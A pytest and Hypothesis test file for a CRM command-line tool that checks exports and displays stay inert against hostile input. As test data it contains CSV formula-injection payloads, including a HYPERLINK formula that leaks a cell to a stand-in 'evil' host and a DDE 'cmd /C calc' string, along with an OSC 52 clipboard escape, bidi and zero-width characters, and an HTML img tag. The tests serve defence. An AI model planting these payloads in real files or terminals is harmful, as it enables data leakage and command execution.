"""Hostile text, end to end: what a text field refuses, what a sheet never runs, what a
terminal or a Markdown table never receives raw — through the command line, on a real store.

* no cell of a CSV or workbook the tool writes is a formula, and an export still comes back
  through `crm import` as the very same text;
* control characters, invisible format characters and stray combining marks are refused
  with one line naming the option (exit 2); an older log's are shown escaped;
* look-alike names an older version let in are found by `crm.app.audit.look_alike_names`."""
from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.markdown_tables import assert_markdown_tables

NAMES = {  # name -> investor
    '=HYPERLINK("http://evil/?"&A1,"click")': "+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0": "@SUM(1)",
    "@SUM(1)": "-2+3",
    "-2+3": '=HYPERLINK("http://evil/?"&A1,"click")',
}
STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def contact(run, name, investor, *extra, date="2021-01-04"):
    """`crm contact`, the name after `--` (a name may start with -)."""
    return run("contact", "--investor", investor, "--sector", "其他", "--planned", "1亿",
               "--date", date, *extra, "--", name, check=False)


def hostile_zone(run):
    for name, investor in NAMES.items():
        r = contact(run, name, investor, "--channel", "-渠道", "--region", "@上海",
                    "--owner", "=张伟", "--note", "+备注\n第二行")
        assert r.code == 0, r.err
    names = list(NAMES)
    # (a visit log's project cell splits on 、，,；;/ outside brackets: "+cmd|' /C …" would
    # be two names there, formula or not)
    run("visit", "--kind", "reception", "--date", "2021-02-01", "--with", "@李娜",
        "--note", "=1+1", "--", names[0], names[2])
    run("sign", "--amount", "2亿", "--date", "2021-03-01", "--", names[0])
    run("drop", "--reason", "-资金链断裂", "--date", "2021-03-02", "--", names[3])


def assert_no_formula(path):
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
    return book


def cells(path):
    return [(s.title, [[(c.value, c.data_type) for c in row] for row in s.iter_rows()])
            for s in load_workbook(path).worksheets]


def assert_inert_csv(text):
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(STARTS) or NUMBER.fullmatch(cell), (row, cell)


def test_no_export_cell_is_a_formula_and_the_export_comes_back_the_same(run, crm_at, tmp_path):
    hostile_zone(run)
    first_csv, first_xlsx = tmp_path / "f.csv", tmp_path / "f.xlsx"
    run("--lang", "zh", "export", "--out", str(first_csv))
    run("--lang", "zh", "export", "--out", str(first_xlsx))
    text = first_csv.read_text(encoding="utf-8-sig")
    assert_inert_csv(text)
    rows = list(csv.reader(io.StringIO(text)))
    by_name = {r[0]: r for r in rows[1:]}
    for name, investor in NAMES.items():
        assert by_name["'" + name][1] == "'" + investor
    assert by_name["'-2+3"][20] == "'-资金链断裂"
    book = assert_no_formula(first_xlsx)
    sheet = book.worksheets[0]
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert {tuple(v[:2]) for v in values} == set(NAMES.items())
    visits = [[c.value for c in row] for row in book.worksheets[1].iter_rows(min_row=2)]
    assert visits[0][3:] == ["@李娜", "=1+1"]
    for source, kind in ((first_csv, "csv"), (first_xlsx, "xlsx")):
        other = crm_at(tmp_path / f"{kind}.sqlite")
        assert other("import", str(source)).code == 0
        for name, investor in NAMES.items():
            shown = other("show", "--format", "json", "--", name).json()
            assert (shown["name"], shown["investor"], shown["channel"], shown["owner"]) == \
                (name, investor, "-渠道", "=张伟")
        again = tmp_path / f"again.{kind}"
        other("--lang", "zh", "export", "--out", str(again))
        if kind == "csv":
            assert again.read_bytes() == source.read_bytes()
        else:
            assert cells(again) == cells(source)


def test_csv_outputs_and_the_report_hold_no_formula(run, tmp_path):
    hostile_zone(run)
    name = next(iter(NAMES))
    for args in (("list",), ("show", "--", name), ("history", "--", name),
                 ("pipeline",), ("report", "quarter", "2021Q1")):
        for lang in ("en", "zh"):
            command, rest = (args[:1], args[1:]) if args[0] != "report" else (args, ())
            out = run("--lang", lang, *command, "--format", "csv", *rest).out
            assert_inert_csv(out)
            assert "'" + name.replace('"', '""') in out or args[0] == "report"
    report = tmp_path / "r.xlsx"
    run("report", "quarter", "2021Q1", "--format", "xlsx", "--out", str(report))
    book = assert_no_formula(report)
    texts = [c.value for s in book.worksheets for row in s.iter_rows() for c in row]
    assert name in texts  # the signed project, listed as it is
    assert any(isinstance(t, str) and t.startswith("-渠道") for t in texts)


# -- refusals -----------------------------------------------------------------------------------

REFUSED = ["华锂\u200b新材", "a\u202eb", "\ufeffa", "a\u00adb", "a\u2066b\u2069", "a\x1b[31mb",
           "a\x07", "a\tb", "a\rb", "\u0301ab", "a \u0301b", "a\u2028b"]


@pytest.mark.parametrize("value", REFUSED)
def test_hostile_text_is_refused_in_one_line_naming_the_option(run, value):
    contact(run, "星河光伏", "星河能源")
    attempts = {
        "NAME": ("contact", "--investor", "x", "--sector", "其他", "--planned", "1亿", "--", value),
        "--investor": ("contact", "--investor", value, "--sector", "其他", "--planned", "1亿", "--",
                       "甲"),
        "--note": ("visit", "--kind", "online", "--note", value, "--", "星河光伏"),
        "--with": ("visit", "--kind", "online", "--with", value, "--", "星河光伏"),
        "--reason": ("drop", "--reason", value, "--", "星河光伏"),
        "--owner": ("handover", "--owner", value, "--", "星河光伏"),
        "--channel": ("contact", "--investor", "x", "--channel", value, "--sector", "其他",
                      "--planned", "1亿", "--", "乙"),
        "--parcel": ("land", "--mu", "10", "--parcel", value, "--", "星河光伏"),
    }
    for lang in ("en", "zh"):
        for option, args in attempts.items():
            r = run("--lang", lang, *args, check=False)
            assert r.code == 2, (option, value, r.err)
            line = r.err.strip()
            assert "\n" not in line and option in line, (option, value, line)
            assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in line)
    assert [p["name"] for p in run("list", "--format", "json").json()] == ["星河光伏"]


def test_notes_and_reasons_keep_their_lines_and_nothing_else_does(run):
    contact(run, "星河光伏", "星河能源", "--note", "第一行\n第二行")
    assert contact(run, "乙", "x\ny").code == 2
    assert run("visit", "--kind", "online", "--with", "张伟\n李娜", "--", "星河光伏",
               check=False).code == 2
    run("drop", "--reason", "资金\n断裂", "--", "星河光伏")
    history = run("history", "星河光伏", "--format", "json").json()
    assert history[0]["note"] == "第一行\n第二行" and history[-1]["reason"] == "资金\n断裂"
    table = run("history", "星河光伏").out
    assert "第一行↵第二行" in table and "资金↵断裂" in table


# -- an older log's hostile text is shown, never sent raw -----------------------------------------

OSC52 = "\x1b]52;c;aGk=\x07"


def test_an_older_logs_control_characters_are_shown_escaped(run, store):
    from crm.app.log import ProjectLog

    app = ProjectLog(store=str(store), user="old")
    app.user = f"old{OSC52}"  # as an older version let anyone be recorded
    try:
        app.contact(name=f"星河{OSC52}光伏", investor="星河\u202e能源", sector="其他",
                    planned=Decimal(100_000_000), occurred_on=date(2021, 1, 4),
                    note=f"看这里{OSC52}\n| 第二行 <img src=x>", channel="a|b")
    finally:
        app.close()
    name = f"星河{OSC52}光伏"
    outputs = {f"{args[0]} {fmt}": run(*args, "--format", fmt).out
               for args in (("list",), ("show", name), ("history", name))
               for fmt in ("table", "markdown", "csv", "json")}
    for what, out in outputs.items():
        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out, what
        if what.endswith("table") or what.endswith("markdown"):
            assert "\\x1b]52;c;aGk=\\x07" in out, what
        if what.endswith("markdown"):
            assert "<img" not in out
            assert_markdown_tables(out)
    assert "看这里\\x1b]52;c;aGk=\\x07↵| 第二行" in outputs["history table"]
    assert "看这里\\x1b]52;c;aGk=\\x07<br>\\| 第二行 &lt;img src=x&gt;" in \
        outputs["history markdown"]
    assert len(outputs["list table"].splitlines()) == 3
    assert json.loads(outputs["history json"])[0]["note"].startswith(f"看这里{OSC52}")


# -- look-alike names an older version let in -----------------------------------------------------

_SPACES = re.compile(r"\s+")


def older_name_key(name: str) -> str:
    """name_key as versions before the invisible-character rule computed it."""
    return _SPACES.sub(" ", unicodedata.normalize("NFKC", name).casefold()).strip()


def test_look_alike_names_recorded_by_an_older_version_are_found(store, monkeypatch, capsys):
    import importlib

    from crm.app.audit import look_alike_names
    from crm.app.log import ProjectLog

    with monkeypatch.context() as older:
        for module in ("crm.domain.values", "crm.domain.naming", "crm.domain.project",
                       "crm.app.log"):
            older.setattr(importlib.import_module(module), "name_key", older_name_key)
        app = ProjectLog(store=str(store), user="old")
        app.confirm = True  # past the look-alike guard, as before it
        for name in ("华锂新材", "华锂\u200b新材", "星河\u202e光伏", "星河光伏", "蓝海医疗",
                     "ＨＵＡ\u2060 Li", "hua li"):
            app.contact(name=name, investor="x", sector="其他", planned=Decimal(100_000_000),
                        occurred_on=date(2021, 1, 4))
        app.close()
    app = ProjectLog(store=str(store))
    try:
        assert look_alike_names(app) == [("华锂新材", "华锂\u200b新材"), ("星河\u202e光伏", "星河光伏"),
                                         ("ＨＵＡ\u2060 Li", "hua li")]
    finally:
        app.close()
    import cli

    monkeypatch.setenv("CRM_LANG", "en")
    capsys.readouterr()
    assert cli.main(["--store", str(store), "verify"]) == 0  # warnings: the log is intact
    out, err = capsys.readouterr()
    assert out.startswith("log intact: 7 events")
    assert err.splitlines() == [
        "crm: warning: '华锂新材' and '华锂\\u200b新材' are the same name but for invisible "
        "characters: `crm merge` or `crm rename` one of them",
        "crm: warning: '星河\\u202e光伏' and '星河光伏' are the same name but for invisible "
        "characters: `crm merge` or `crm rename` one of them",
        "crm: warning: 'ＨＵＡ\\u2060 Li' and 'hua li' are the same name but for invisible "
        "characters: `crm merge` or `crm rename` one of them"]
    from crm.text.messages import say

    for lang in ("en", "zh"):
        line = say("look_alike_warning", lang, a="华锂新材", b="华锂\u200b新材")
        assert "\\u200b" in line and "\u200b" not in line and "\n" not in line


def test_a_clean_store_has_no_look_alikes(run, store):
    from crm.app.audit import look_alike_names
    from crm.app.log import ProjectLog

    contact(run, "华锂新材", "x")
    assert contact(run, "华锂\u200b新材", "x").code == 2
    app = ProjectLog(store=str(store))
    try:
        assert look_alike_names(app) == []
    finally:
        app.close()


# -- any text at all ----------------------------------------------------------------------------

HOSTILE_CHARS = ("\x00\x07\x1b\t\r\n\x0b\x7f\x85\x9b\u200b\u200c\u200d\ufeff\u2060\u00ad\u202a"
                 "\u202e\u2066\u2067\u2069\u200e\u200f\u0301\u20dd\u0300\u2028\u3000")
PLAIN_CHARS = "华锂新材星河 abcXYZ019|\\<>&'\",;*_`[]#=+-@（）、"
texts = st.tuples(
    st.sampled_from(["", "", "=", "+", "-", "@", "\t", " ", "\u0301"]),
    st.text(alphabet=st.one_of(st.sampled_from(PLAIN_CHARS), st.sampled_from(HOSTILE_CHARS),
                               st.characters(codec="utf-8")), max_size=10),
).map("".join)
one_line = st.text(alphabet=st.sampled_from(PLAIN_CHARS), min_size=1, max_size=10)
lines = st.text(alphabet=st.sampled_from(PLAIN_CHARS + "\n"), min_size=1, max_size=10)
# one field in four or five is anything at all: often enough, a command gets through
either = st.one_of(texts, one_line, one_line, one_line)
either_lines = st.one_of(texts, lines, lines, lines)  # notes and reasons may keep line breaks
RAW_CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def assert_one_line_refusal(r, what):
    assert r.code == 2, (what, r.code, r.err)
    assert r.err.count("\n") <= 1 and not RAW_CONTROL.search(r.err.rstrip("\n")), (what, r.err)


@settings(max_examples=50, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(name=either, investor=either, note=either_lines, owner=either, channel=either,
       region=either, participants=either, visit_note=either_lines, reason=either_lines)
def test_any_text_is_refused_or_shown_safely(run, tmp_path, name, investor, note, owner, channel,
                                             region, participants, visit_note, reason):
    test_any_text_is_refused_or_shown_safely.count = count = \
        getattr(test_any_text_is_refused_or_shown_safely, "count", 0) + 1
    name = f"{name} P{count:05d}Q"  # a new project each time, never a look-alike of another
    r = run("contact", "--investor", investor, "--sector", "其他", "--planned", "1亿",
            "--date", "2021-01-04", "--note", note, "--owner", owner, "--channel", channel,
            "--region", region, "--", name, check=False)
    if r.code != 0:
        assert_one_line_refusal(r, "contact")
        event("contact refused")
        return
    event("contact recorded")
    stored = run("show", "--format", "json", "--", name).json()["name"]
    assert stored == unicodedata.normalize("NFC", name).strip()
    r = run("visit", "--kind", "online", "--date", "2021-02-01", "--with", participants,
            "--note", visit_note, "--", stored, check=False)
    if r.code != 0:
        assert_one_line_refusal(r, "visit")
    r = run("drop", "--reason", reason, "--date", "2021-03-01", "--", stored, check=False)
    if r.code != 0:
        assert_one_line_refusal(r, "drop")
    for args in (("list",), ("show", "--", stored), ("history", "--", stored)):
        for fmt in ("table", "markdown", "csv", "json"):
            out = run(*args[:1], "--format", fmt, *args[1:]).out
            assert not RAW_CONTROL.search(out), (args, fmt, out)
            if fmt in ("table", "markdown"):
                assert not any(unicodedata.category(c) in ("Cf", "Zl", "Zp") for c in out)
            if fmt == "markdown":
                assert_markdown_tables(out)
                assert "<" not in out.replace("<br>", "")
            elif fmt == "csv":
                assert_inert_csv(out)
            elif fmt == "json":
                json.loads(out)
            if args[0] == "list" and fmt == "table":
                assert len(out.splitlines()) == 2 + len(run("list", "--format", "json").json())
    export = tmp_path / f"e{count}.csv"
    run("export", "--out", str(export))
    assert_inert_csv(export.read_text(encoding="utf-8-sig"))
    book = tmp_path / f"e{count}.xlsx"
    run("export", "--out", str(book))
    assert_no_formula(book)


def test_current_names_are_the_names_the_events_decode_to(run, store):
    """`current_names` reads the contacts, renames and voids as stored, each name from the
    state as written: the names, ids and order the library's notifications, decoded by the
    transcoder, give (a row forged below position 1, which no notification reads, left
    out as they leave it)."""
    from crm.app.log import CONTACT_TOPIC, RENAMED_TOPIC, VOIDED_TOPIC, ProjectLog
    from tests.integration.test_tamper import Tampering

    for name in ("华锂新材", "星河光伏", "蓝海\u3000医疗", "云栖数据"):
        contact(run, name, "x")
    run("rename", "星河光伏", "星河 \"光伏\" \\ 二期")
    run("void", "蓝海\u3000医疗", "--reason", "重复录入")
    run("rename", "华锂新材", "华锂新材料")
    sql = Tampering(store)
    sql("INSERT INTO {events} ({pos}, originator_id, originator_version, topic, state) "
        "SELECT 0, originator_id, 9, topic, state FROM {events} WHERE topic = ? "
        "ORDER BY {pos} DESC LIMIT 1", (CONTACT_TOPIC,))  # 云栖数据 again: read, it comes first
    app = ProjectLog(store=str(store))
    try:
        decode, names = app.mapper.transcoder.decode, {}
        for n in app.recorder.select_notifications(
                0, 100, topics=[CONTACT_TOPIC, RENAMED_TOPIC, VOIDED_TOPIC],
                inclusive_of_start=False):
            if n.topic == VOIDED_TOPIC:
                names.pop(n.originator_id, None)
            else:
                names[n.originator_id] = decode(n.state)["name"]
        assert list(app.current_names()) == list(names.items())
        assert [name for _, name in names.items()] == ["华锂新材料", "星河 \"光伏\" \\ 二期",
                                                       "云栖数据"]
    finally:
        app.close()
